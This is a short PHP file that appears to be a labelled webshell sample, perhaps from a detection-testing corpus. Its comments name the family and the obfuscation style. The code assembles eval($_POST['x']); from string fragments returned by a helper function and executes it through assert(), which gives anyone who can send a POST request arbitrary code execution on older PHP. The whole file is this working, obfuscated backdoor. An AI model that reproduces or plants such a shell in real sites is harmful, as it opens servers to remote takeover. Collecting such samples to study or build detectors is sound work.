<?php
// Family: webshell/eval-request
// Style: pieces of the evaluated code returned by tiny functions
// Trait: bypass() returns 'l($_POST[' so that "eva" . bypass() . "x']);" is eval($_POST['x']); run by assert (PHP < 8)
function bypass()
{
	return "l(\$_POST['";
}
assert("eva" . bypass() . "x']);");
